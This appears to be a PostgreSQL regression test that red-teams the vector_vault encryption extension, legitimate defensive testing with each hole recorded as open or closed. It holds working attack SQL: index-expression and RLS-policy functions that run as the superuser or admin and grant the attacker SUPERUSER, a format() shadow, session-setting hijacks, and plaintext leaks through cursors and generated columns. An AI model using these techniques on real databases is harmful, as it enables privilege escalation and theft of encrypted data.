-- 44_round2_attack_pass: security round 2, "Beyond the list". An attack pass on the four
-- classes of issue 8, as an ordinary login role (regress_rt_mallory) would attack, on the main
-- build of 05e6420. It runs in a database of its own (regress_rt44) so that no table of the
-- other tests takes part in what vault.reencrypt and vault.retire_key_version enumerate.
--
-- Columns named hole_* showed a hole on 05e6420: they were t (or showed plaintext / a lost value)
-- and changed when it was closed. Everything else is asserted as it should stay.
--
-- Status after the fixes of this round (the expected output shows each): closed — 1a/1f (values
-- are counted with heap scans, no planner runs as the extension owner), 1b-1d (reencrypt touches
-- only tables the caller trusts, names qualified), 2a (nested ALTER ROLE/DATABASE SET of
-- vector_vault.* refused), 2e (WITH HOLD refused under a transaction-scoped login), 2i (nested
-- RESET refused, nested RESET ALL keeps the vault), 3a (retire refused while prepared
-- transactions exist), 3c (materialized views are counted), 3d (vault.protect covers
-- partitions and inheritance children), 5a (composite results are not "encrypted"). Open —
-- 2b (a nested set_config of vector_vault.ciphertext_io or ef_search lasts for the session:
-- the session then reads ciphertext or searches with another ef; no plaintext, no principal
-- change), 2j (in an API-key session a SECURITY DEFINER function decrypts with the key's rights:
-- README says so). 3b is closed too: encrypted constants in view queries, column defaults and
-- CHECK constraints are refused by the DDL guard (retire_key_version could not count them).
--
-- Class 1 — what a less privileged role plants that runs when a more privileged one uses the
-- extension:
--   1a HOLE (critical) vault.retire_key_version counts live values with vault._values_using,
--      which runs "SELECT count(*) FROM <every table with an encrypted column>" as the
--      extension owner (a superuser). Planning that statement loads the table's index
--      expressions and predicates and const-folds them (eval_const_expressions in the relcache),
--      so an IMMUTABLE no-argument function in an index expression of the attacker's own table
--      runs as the superuser: mallory makes herself SUPERUSER. Any vault admin's retire
--      triggers it (mallory's own vault will do). A security-restricted operation does not
--      stop ALTER ROLE.
--   1b HOLE (high) the same folding runs the function as the vault admin that calls
--      CALL vault.reencrypt (it plans an UPDATE of every such table).
--   1c HOLE (high) an RLS policy of the attacker's table runs as the vault admin: reencrypt's
--      "ctid = ANY (ARRAY(SELECT ctid FROM t ...))" reads the table with the caller's rights, so
--      every row costs one call of the policy's function (no trigger, no matching value).
--   1d HOLE (high) vault.reencrypt is PL/pgSQL without a pinned search_path; its
--      format('UPDATE %1$s ...', col.relid, col.column_name) resolves to an attacker's
--      public.format(text, regclass, name) (a better match than pg_catalog.format(text,
--      VARIADIC "any")) with the default search_path "$user", public: runs as the vault admin.
--      (Needs CREATE on a schema in the caller's path: public in databases created before
--      PG 15 or after a GRANT; README says objects planted in public are never picked up.)
--   1f HOLE (critical) 1a needs no CREATE right at all: a role with only the default TEMP
--      right keeps a session with a temporary table (etext column), a pg_temp function and an
--      expression index. retire_key_version then fails on the other session's temp table
--      (H7), but only after planning has run the function as the superuser; a non-transactional
--      payload (COPY ... TO PROGRAM, pg_read_file of the master key encoded into a sequence)
--      survives the rollback.
--   1e ok  the same shadow is not picked up by retire_key_version (_values_using pins
--      search_path), and vault.protect's policies name vault.row_access/vault.vault_of
--      qualified (a public.row_access shadow is not used).
-- Class 2 — session state nested code can change:
--   2a HOLE (high) nested code (here an RLS policy of mallory's table that the admin reads) runs
--      ALTER ROLE CURRENT_USER SET vector_vault.vault = 'rt_m': every later session of the
--      admin seals new values under mallory's vault (mallory granted the admin write there), and
--      mallory reads them. Same effect as H5, persistent, through "configuration".
--   2b HOLE (low) nested set_config('vector_vault.ciphertext_io', 'on', false) and
--      set_config('vector_vault.ef_search', '1', false) change the reader's session for good
--      (it then reads ciphertext, its plaintext input is refused, searches lose recall).
--   2c ok  nested set_config('vector_vault.vault', ...) is refused (42501).
--   2d ok  a cursor opened under a transaction-scoped login cannot decrypt after vault.logout.
--   2e HOLE (medium) DECLARE ... WITH HOLD under a transaction-scoped login is materialised
--      with the key's rights at COMMIT, after which the login has ended: any later
--      transaction on that connection (under PgBouncer's transaction pooling: another client)
--      FETCHes the plaintext, while a direct read is refused.
--   2f ok  a key revoked by another session mid-cursor: the next FETCH is refused (28000/42501).
--   2g ok  parallel workers decrypt as exactly the API key (not as its owner, who owns rt_b).
--   2h ok  PREPARE/EXECUTE of vault.login is refused (42501).
--   2i HOLE (high) RESET ALL in nested code (a policy function) is not refused: it changes
--      vector_vault.vault from the client's own top-level SET back to the configured default
--      (here the one planted by 2a), in the same session; the guard sees SET/set_config only.
--   2j HOLE (low; README mismatch) README: "A SECURITY DEFINER function decrypts with its
--      owner's rights". In an API-key session it decrypts with the key's rights whatever
--      current_user is (vault/catalog.cpp: who = the key's owner when a key is logged in), so a
--      definer function of a role with no right on the vault returns the plaintext; the same
--      holds for anything Postgres runs as the table owner (ANALYZE, VACUUM, REINDEX in a
--      security-restricted operation) in a key session.
-- Class 3 — what enumerations miss:
--   3a HOLE (data loss) a value written by a PREPAREd (two-phase) transaction is invisible to
--      reencrypt and retire_key_version; retire shreds the version and COMMIT PREPARED then
--      makes the value permanently undecryptable (22V02).
--   3b HOLE (data loss) constants of encrypted types stored in the catalog — a view's
--      'x'::etext (pg_rewrite), a column DEFAULT (pg_attrdef) — are sealed once, under the key
--      version of the day, and never counted: after retire the view and every defaulted insert
--      fail for good.
--   3c HOLE (low) materialized views are not enumerated (relkind 'm'): their copies fail after
--      retire until REFRESH.
--   3d HOLE (medium) vault.protect on a partitioned table or an inheritance parent enables RLS
--      on the parent only: the partitions/children, read directly (by their owner, or anyone
--      granted on them), show and let delete rows of vaults the reader has no right on
--      (plaintext stays refused by the decryption check).
-- Class 4 — what logs receive:
--   4a HOLE (high) a CHECK, NOT NULL or partition-constraint violation's DETAIL "Failing row
--      contains (...)" prints the row through the types' output functions, i.e. decrypted, also
--      when the statement text has no plaintext (INSERT ... SELECT, UPDATE, bind parameters);
--      with default logging the DETAIL also goes to the server log (seen on a manual run; the
--      emit_log_hook does not redact it).
--   4b ok  a unique index that would echo "Key (body)=(...)" cannot be built on an encrypted
--      column (no btree operator class); expression indexes on decrypted values are refused by
--      the DDL guard (43).
-- Also H4 (derived plaintext):
--   5a HOLE (high) the DDL guard (src/type/ddl_guard.cpp, IsMetadataOnly) lets any expression
--      whose result type "holds encrypted values" through, composites included: a generated
--      column of type (etext, text) filled by an IMMUTABLE ROW(b, b::text) stores the writer's
--      plaintext in the heap for a table owner with no right on the vault. (An index on such
--      an expression is accepted too.)
SET client_min_messages = warning;
CREATE ROLE regress_rt_admin LOGIN;    -- owns vaults rt_v, rt_b, rt_d; runs the maintenance
CREATE ROLE regress_rt_mallory LOGIN;  -- the attacker: ordinary role, owns vault rt_m
CREATE ROLE regress_rt_app LOGIN;      -- connects and logs in with API keys
CREATE ROLE regress_rt_nobody LOGIN;   -- may create nothing but temporary objects
DROP DATABASE IF EXISTS regress_rt44;
CREATE DATABASE regress_rt44;
RESET client_min_messages;
SELECT current_user AS rt_su \gset
\c regress_rt44
SET client_min_messages = warning;
CREATE EXTENSION vector_vault;
CREATE EXTENSION dblink;
RESET client_min_messages;
GRANT EXECUTE ON FUNCTION vault.create_vault(text) TO regress_rt_admin, regress_rt_mallory;
-- The attacker may create objects in public (databases from before PG 15, or a DBA's grant).
GRANT CREATE ON SCHEMA public TO regress_rt_mallory, regress_rt_admin;

-- rt_try(q): 'ok' or "SQLSTATE: message" with 16-hex ids masked.
CREATE FUNCTION rt_try(q text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE
    st text; msg text;
BEGIN
    EXECUTE q;
    RETURN 'ok';
EXCEPTION WHEN OTHERS THEN
    GET STACKED DIAGNOSTICS st = RETURNED_SQLSTATE, msg = MESSAGE_TEXT;
    RETURN st || ': ' || regexp_replace(msg, '[0-9a-f]{16}', '<id>', 'g');
END
$$;
-- rt_read(q): 'ok: v1 | v2' for a one-column query, or the error as rt_try shows it.
CREATE FUNCTION rt_read(q text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE
    r text; st text; msg text;
BEGIN
    EXECUTE format('SELECT string_agg(x::text, '' | '') FROM (%s) s(x)', q) INTO r;
    RETURN 'ok: ' || coalesce(r, '(no rows)');
EXCEPTION WHEN OTHERS THEN
    GET STACKED DIAGNOSTICS st = RETURNED_SQLSTATE, msg = MESSAGE_TEXT;
    RETURN st || ': ' || regexp_replace(msg, '[0-9a-f]{16}', '<id>', 'g');
END
$$;

-- The vault admin's data: vault rt_v (read by a key below) and rt_b (not in the key).
SET ROLE regress_rt_admin;
SELECT vault.create_vault('rt_v');
SELECT vault.create_vault('rt_b');
CREATE TABLE rt_items (id int, body etext);
GRANT SELECT ON rt_items TO regress_rt_app;
SET vector_vault.vault = 'rt_v';
INSERT INTO rt_items VALUES (1, 'RT-SECRET-1');
SET vector_vault.vault = 'rt_b';
INSERT INTO rt_items VALUES (2, 'RT-SECRET-B');
RESET vector_vault.vault;
RESET ROLE;

-- ===== Class 1: planted code run by the vault admin and by the extension owner ==============
SET ROLE regress_rt_mallory;
-- What ran, as whom (rows only for runs as someone other than mallory).
CREATE TABLE rt_seen (via text, who text, su boolean);
GRANT INSERT ON rt_seen TO PUBLIC;
CREATE FUNCTION rt_note(via text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    IF current_user <> 'regress_rt_mallory' THEN
        INSERT INTO public.rt_seen
        SELECT via,
               CASE WHEN r.rolname = 'regress_rt_admin' THEN 'vault admin'
                    WHEN r.oid = (SELECT nspowner FROM pg_catalog.pg_namespace WHERE nspname = 'vault')
                    THEN 'extension owner' ELSE 'other' END,
               r.rolsuper
        FROM pg_catalog.pg_roles r WHERE r.rolname = current_user;
        IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
            EXECUTE 'ALTER ROLE regress_rt_mallory SUPERUSER';
        END IF;
    END IF;
END $$;
-- 1a/1b: an IMMUTABLE function the planner folds when it loads the index's expressions.
CREATE FUNCTION rt_fold() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM public.rt_note('index expression folded at plan time');
    RETURN 0;
END $$;
CREATE TABLE rt_trap (n int, body etext);
CREATE INDEX rt_trap_expr ON rt_trap ((n + rt_fold()));
GRANT SELECT, UPDATE ON rt_trap TO PUBLIC;   -- so that reencrypt does not stop at it (H7)
-- 1c: an RLS policy.
CREATE FUNCTION rt_policy() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.rt_note('RLS policy of the attacker''s table');
    RETURN true;
END $$;
CREATE TABLE rt_trap_pol (n int, body etext);
INSERT INTO rt_trap_pol VALUES (1, NULL);
ALTER TABLE rt_trap_pol ENABLE ROW LEVEL SECURITY;
CREATE POLICY rt_trap_pol_p ON rt_trap_pol USING (rt_policy());
GRANT SELECT, UPDATE ON rt_trap_pol TO PUBLIC;
-- 1d: a better-matching format() in public.
CREATE FUNCTION public.format(f text, r regclass, c name) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.rt_note('public.format shadow');
    RETURN pg_catalog.format(f, r, c);
END $$;
-- 1e: a shadow of the function vault.protect's policies call.
CREATE FUNCTION public.row_access(level text, VARIADIC vault_ids bigint[]) RETURNS boolean
LANGUAGE plpgsql AS $$ BEGIN PERFORM public.rt_note('public.row_access shadow'); RETURN true; END $$;
SELECT count(*) AS planted_rows_by_mallory_herself FROM rt_seen;
RESET ROLE;

-- The admin rotates rt_v and re-encrypts (a fresh backend: the index's relcache entry is new).
\c - regress_rt_admin
SELECT vault.rotate_key('rt_v');
CALL vault.reencrypt('rt_v');
-- The admin protects a table (1e).
CREATE TABLE rt_prot (id int, body etext);
SET client_min_messages = warning;
SELECT vault.protect('rt_prot');
RESET client_min_messages;
SELECT DISTINCT qual LIKE '%vault.row_access%' AS policy_names_vault_row_access
FROM pg_policies WHERE tablename = 'rt_prot' AND qual IS NOT NULL;
-- The admin retires the old version: _values_using runs as the extension owner (1a).
\c - regress_rt_admin
SELECT vault.retire_key_version('rt_v', 1);
\c - :rt_su
SELECT via, who, su FROM rt_seen GROUP BY via, who, su ORDER BY via COLLATE "C", who COLLATE "C";
SELECT rolsuper AS hole_mallory_made_herself_superuser FROM pg_roles WHERE rolname = 'regress_rt_mallory';
SELECT EXISTS (SELECT FROM rt_seen WHERE who = 'vault admin') AS hole_planted_code_ran_as_vault_admin;
ALTER ROLE regress_rt_mallory NOSUPERUSER;
DROP FUNCTION public.format(text, regclass, name);
DROP FUNCTION public.row_access(text, bigint[]);
DROP TABLE rt_trap, rt_trap_pol;
TRUNCATE rt_seen;

-- 1f: the same with nothing but the default TEMP right: a role that may create nothing else
-- keeps a session open (dblink) with a temporary table, a pg_temp function and an index.
-- The marker sequence is the test's (a real attacker calls a volatile pg_temp_N function that
-- runs COPY ... TO PROGRAM or reads the master key file, which no rollback undoes).
CREATE SEQUENCE rt_marker;
GRANT SELECT, UPDATE ON rt_marker TO PUBLIC;
SELECT dblink_connect('rt_nobody', format('dbname=regress_rt44 user=regress_rt_nobody host=%s port=%s',
    split_part(current_setting('unix_socket_directories'), ',', 1), current_setting('port')));
SELECT * FROM dblink('rt_nobody', $$SELECT has_database_privilege('regress_rt44', 'CREATE')::text
    || ' ' || has_schema_privilege('public', 'CREATE')::text$$) AS t(nobody_can_create_schema_or_in_public text);
SELECT dblink_exec('rt_nobody', $$CREATE TEMP TABLE rt_tmp (n int, body etext)$$);
SELECT dblink_exec('rt_nobody', $q$CREATE FUNCTION pg_temp.rt_fold() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$
BEGIN
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
        PERFORM pg_catalog.setval('public.rt_marker', 777);
    END IF;
    RETURN 0;
END $f$$q$);
SELECT dblink_exec('rt_nobody', $$CREATE INDEX ON rt_tmp ((n + pg_temp.rt_fold()))$$);
SET ROLE regress_rt_admin;
\set VERBOSITY sqlstate
SELECT vault.retire_key_version('rt_v', 1);    -- fails (another session's temp table, H7) ...
\set VERBOSITY default
RESET ROLE;
SELECT last_value = 777 AS hole_temp_only_role_ran_code_as_superuser FROM rt_marker;   -- ... too late
SELECT dblink_disconnect('rt_nobody');

-- ===== Class 2: session state changed by nested code ==========================================
-- 2a/2b: mallory's vault, a grant that lets the admin write there, and a policy that plants.
SET ROLE regress_rt_mallory;
SELECT vault.create_vault('rt_m');
SELECT vault.grant('rt_m', 'regress_rt_admin', 'write');
CREATE TABLE rt_bait (id int);
INSERT INTO rt_bait VALUES (1);
GRANT SELECT ON rt_bait TO PUBLIC;
CREATE FUNCTION rt_plant() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE 'ALTER ROLE CURRENT_USER SET vector_vault.vault = ''rt_m''';
    PERFORM set_config('vector_vault.ciphertext_io', 'on', false);
    PERFORM set_config('vector_vault.ef_search', '1', false);
    RETURN true;
END $$;
ALTER TABLE rt_bait ENABLE ROW LEVEL SECURITY;
CREATE POLICY rt_bait_p ON rt_bait USING (rt_plant());
RESET ROLE;
\c - regress_rt_admin
SELECT count(*) AS admin_reads_bait FROM rt_bait;
SHOW vector_vault.ciphertext_io;   -- 2b: 'on' is the hole
SHOW vector_vault.ef_search;       -- 2b: '1' is the hole
-- 2c: the vault itself cannot be changed by nested code.
SELECT rt_try($q$SELECT set_config('vector_vault.vault', 'rt_m', false)$q$) AS nested_vault_change;
-- 2a: the admin's next session.
\c - regress_rt_admin
SHOW vector_vault.vault;           -- 2a: 'rt_m' is the hole
CREATE TABLE rt_admin_notes (id int, body etext);
GRANT SELECT ON rt_admin_notes TO regress_rt_mallory;
INSERT INTO rt_admin_notes VALUES (1, 'RT-SECRET-ADMIN-NOTE');
\c - regress_rt_mallory
SELECT body::text AS hole_mallory_reads_admins_new_value FROM rt_admin_notes;
-- 2i: RESET ALL in nested code is not refused; it puts back the (planted) configured vault.
CREATE TABLE rt_bait2 (id int);
INSERT INTO rt_bait2 VALUES (1);
GRANT SELECT ON rt_bait2 TO PUBLIC;
CREATE FUNCTION rt_reset_all() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RESET ALL; RETURN true; END $$;
ALTER TABLE rt_bait2 ENABLE ROW LEVEL SECURITY;
CREATE POLICY rt_bait2_p ON rt_bait2 USING (rt_reset_all());
\c - regress_rt_admin
SET vector_vault.vault = 'rt_v';
SELECT count(*) AS admin_reads_bait2 FROM rt_bait2;
SHOW vector_vault.vault;           -- 2i: 'rt_m' (not the admin's own 'rt_v') is the hole
\c - :rt_su
ALTER ROLE regress_rt_admin RESET vector_vault.vault;
DROP TABLE rt_bait, rt_bait2;

-- API keys of the admin (the password and keys are never printed).
SET ROLE regress_rt_admin;
SELECT vault.set_key_password('rt-password-0001');
SELECT vault.create_api_key('rt-password-0001', '{"rt_v": "read"}') AS key_read \gset
SELECT vault.create_api_key('rt-password-0001', '{"rt_v": "read"}') AS key_revoke \gset
RESET ROLE;
SELECT split_part(:'key_revoke', '_', 2) AS key_revoke_id \gset

-- 2d: a cursor across vault.logout.
SET ROLE regress_rt_app;
BEGIN;
SELECT vault.login(:'key_read', true) AS vault_selected;
DECLARE rt_c CURSOR FOR
    SELECT body::text FROM rt_items WHERE id = 1 UNION ALL SELECT body::text FROM rt_items WHERE id = 1;
FETCH 1 FROM rt_c;
SELECT vault.logout();
FETCH 1 FROM rt_c;
ROLLBACK;
-- 2e: a WITH HOLD cursor outlives a transaction-scoped login.
BEGIN;
SELECT vault.login(:'key_read', true) AS vault_selected;
DECLARE rt_h CURSOR WITH HOLD FOR SELECT body::text FROM rt_items WHERE id = 1;
COMMIT;
SELECT vault.principal() AS principal_after_commit;
SELECT rt_read('SELECT body::text FROM rt_items WHERE id = 1') AS direct_read_after_commit;
FETCH ALL FROM rt_h;               -- 2e: the plaintext is the hole
CLOSE rt_h;
-- 2f: a key revoked by another session while a cursor is open.
SELECT vault.login(:'key_revoke') AS vault_selected;
BEGIN;
DECLARE rt_r CURSOR FOR
    SELECT body::text FROM rt_items WHERE id = 1 UNION ALL SELECT body::text FROM rt_items WHERE id = 1;
FETCH 1 FROM rt_r;
RESET ROLE;
SELECT x AS revoked FROM dblink(format('dbname=regress_rt44 user=%s host=%s port=%s', :'rt_su',
        split_part(current_setting('unix_socket_directories'), ',', 1), current_setting('port')),
    format('SET ROLE regress_rt_admin; SELECT vault.revoke_api_key(%L, %L)::text',
           'rt-password-0001', :'key_revoke_id')) AS t(x text);
SET ROLE regress_rt_app;
\set VERBOSITY sqlstate
FETCH 1 FROM rt_r;
\set VERBOSITY default
ROLLBACK;
SELECT vault.logout();
-- 2h: PREPARE/EXECUTE of vault.login.
PREPARE rt_login(text) AS SELECT vault.login($1);
\set VERBOSITY sqlstate
EXECUTE rt_login(:'key_read');
\set VERBOSITY default
SELECT vault.principal() AS principal_after_prepared_login;
DEALLOCATE rt_login;
RESET ROLE;
-- 2j: a SECURITY DEFINER function owned by mallory (no right on rt_v) decrypts rt_v in a
-- session logged in with the key: with a key, decryption follows the key, not current_user.
SET ROLE regress_rt_mallory;
CREATE FUNCTION rt_definer_peek() RETURNS text LANGUAGE sql SECURITY DEFINER
AS $$ SELECT string_agg(body::text, ',') FROM public.rt_items WHERE id = 1 $$;
RESET ROLE;
GRANT SELECT ON rt_items TO regress_rt_mallory;
SET ROLE regress_rt_mallory;
SELECT rt_read('SELECT rt_definer_peek()') AS definer_called_by_mallory;
RESET ROLE;
SET ROLE regress_rt_app;
SELECT vault.login(:'key_read') AS vault_selected;
SELECT rt_definer_peek() AS hole_definer_decrypts_with_key_not_owner;
SELECT vault.logout();
RESET ROLE;
-- 2g: parallel workers act as the key (read rt_v), not as its owner (who owns rt_b too).
SET ROLE regress_rt_admin;
SELECT vault.login(:'key_read') AS vault_selected;
SET force_parallel_mode = on;
SET parallel_leader_participation = off;
SET parallel_setup_cost = 0;
SET parallel_tuple_cost = 0;
SET min_parallel_table_scan_size = 0;
EXPLAIN (COSTS OFF) SELECT body::text FROM rt_items WHERE id = 2;
\set VERBOSITY terse
SELECT body::text FROM rt_items WHERE id = 2;
\set VERBOSITY default
SELECT body::text FROM rt_items WHERE id = 1;
RESET force_parallel_mode;
RESET parallel_leader_participation;
RESET parallel_setup_cost;
RESET parallel_tuple_cost;
RESET min_parallel_table_scan_size;
SELECT vault.logout();
RESET ROLE;

-- ===== Class 3: what the enumerations of live values miss =====================================
SET ROLE regress_rt_admin;
SELECT vault.create_vault('rt_d');
SET vector_vault.vault = 'rt_d';
CREATE TABLE rt_d_items (id int, body etext);
CREATE VIEW rt_d_view AS SELECT 'RT-SECRET-VIEW-CONSTANT'::etext AS b;
CREATE TABLE rt_d_def (id int, body etext DEFAULT 'RT-SECRET-DEFAULT');
INSERT INTO rt_d_items VALUES (2, 'RT-SECRET-LIVE');
CREATE MATERIALIZED VIEW rt_d_mv AS SELECT id, body FROM rt_d_items;
BEGIN;
INSERT INTO rt_d_items VALUES (1, 'RT-SECRET-TWO-PHASE');
PREPARE TRANSACTION 'regress_rt_2pc';
SELECT vault.rotate_key('rt_d');
CALL vault.reencrypt('rt_d');
SELECT vault.retire_key_version('rt_d', 1) AS hole_retired_while_still_used;
COMMIT PREPARED 'regress_rt_2pc';
INSERT INTO rt_d_def (id) VALUES (1);
SELECT rt_read('SELECT body::text FROM rt_d_items WHERE id = 2') AS control_reencrypted_row;
SELECT rt_read('SELECT body::text FROM rt_d_items WHERE id = 1') AS hole_two_phase_value;
SELECT rt_read('SELECT b::text FROM rt_d_view') AS hole_view_constant;
SELECT rt_read('SELECT body::text FROM rt_d_def') AS hole_default_constant;
SELECT rt_read('SELECT body::text FROM rt_d_mv') AS hole_matview_copy;
RESET vector_vault.vault;
-- 3d: vault.protect on a partitioned table and on an inheritance parent.
CREATE TABLE rt_pp (id int, body etext) PARTITION BY RANGE (id);
CREATE TABLE rt_pp1 PARTITION OF rt_pp FOR VALUES FROM (0) TO (100);
CREATE TABLE rt_ih (id int, body etext);
CREATE TABLE rt_ihc () INHERITS (rt_ih);
SET vector_vault.vault = 'rt_b';
INSERT INTO rt_pp VALUES (1, 'RT-SECRET-PART');
INSERT INTO rt_ihc VALUES (1, 'RT-SECRET-CHILD');
RESET vector_vault.vault;
SET client_min_messages = warning;
SELECT vault.protect('rt_pp');
SELECT vault.protect('rt_ih');
RESET client_min_messages;
GRANT SELECT ON rt_pp, rt_pp1, rt_ih, rt_ihc TO regress_rt_app;
SELECT relname, relrowsecurity, relforcerowsecurity FROM pg_class
WHERE relname IN ('rt_pp', 'rt_pp1', 'rt_ih', 'rt_ihc') ORDER BY relname;
RESET ROLE;
SET ROLE regress_rt_app;           -- no right on rt_b
SELECT (SELECT count(*) FROM rt_pp) AS via_parent, (SELECT count(*) FROM rt_pp1) AS hole_via_partition,
       (SELECT count(*) FROM rt_ih) AS via_inh_parent, (SELECT count(*) FROM rt_ihc) AS hole_via_child;
SELECT rt_read('SELECT body::text FROM rt_pp1') AS partition_plaintext;
RESET ROLE;

-- ===== Class 4: what error texts carry ===========================================================
SET ROLE regress_rt_admin;
SET vector_vault.vault = 'rt_v';
CREATE TABLE rt_chk (id int CHECK (id > 0), body etext);
CREATE TABLE rt_nn (id int NOT NULL, body etext);
-- No plaintext in the statements: the values come from rt_items.
INSERT INTO rt_chk SELECT -1, body FROM rt_items WHERE id = 1;
INSERT INTO rt_nn SELECT NULL, body FROM rt_items WHERE id = 1;
INSERT INTO rt_chk SELECT 1, body FROM rt_items WHERE id = 1;
UPDATE rt_chk SET id = -id;
-- 4b: no unique index on an encrypted column, no decrypting index expression.
\set VERBOSITY terse
CREATE UNIQUE INDEX ON rt_chk (body);
CREATE UNIQUE INDEX ON rt_chk ((body::text));
\set VERBOSITY default
RESET vector_vault.vault;
RESET ROLE;

-- ===== Also (H4, derived plaintext): the DDL guard trusts any type that holds an encrypted one ====
-- 5a: a composite (etext, text) "holds encrypted values", so the guard takes a generated column
--     of that type for an envelope; the text half stores the writer's plaintext for the owner.
SET ROLE regress_rt_mallory;       -- owns the table, no right on rt_v
CREATE TYPE rt_pair AS (e etext, p text);
CREATE FUNCTION rt_wrap(b etext) RETURNS rt_pair LANGUAGE sql IMMUTABLE AS $$ SELECT ROW(b, b::text)::rt_pair $$;
CREATE TABLE rt_gen (id int, body etext, g rt_pair GENERATED ALWAYS AS (rt_wrap(body)) STORED);
GRANT INSERT ON rt_gen TO regress_rt_admin;
RESET ROLE;
SET ROLE regress_rt_admin;
SET vector_vault.vault = 'rt_v';
INSERT INTO rt_gen (id, body) VALUES (1, 'RT-SECRET-GENERATED');
RESET vector_vault.vault;
RESET ROLE;
SET ROLE regress_rt_mallory;
SELECT rt_read('SELECT body::text FROM rt_gen') AS owner_decrypts;
SELECT (g).p AS hole_owner_reads_generated_plaintext FROM rt_gen;
RESET ROLE;

-- Clean up: the database goes with its vaults; the roles own nothing elsewhere.
\c - regress_rt_admin
SELECT vault.drop_vault('rt_v'), vault.drop_vault('rt_b'), vault.drop_vault('rt_d');
\c - regress_rt_mallory
SELECT vault.drop_vault('rt_m');
\c contrib_regression :rt_su
SET client_min_messages = warning;
DROP DATABASE regress_rt44 WITH (FORCE);
DROP ROLE regress_rt_admin, regress_rt_mallory, regress_rt_app, regress_rt_nobody;
RESET client_min_messages;
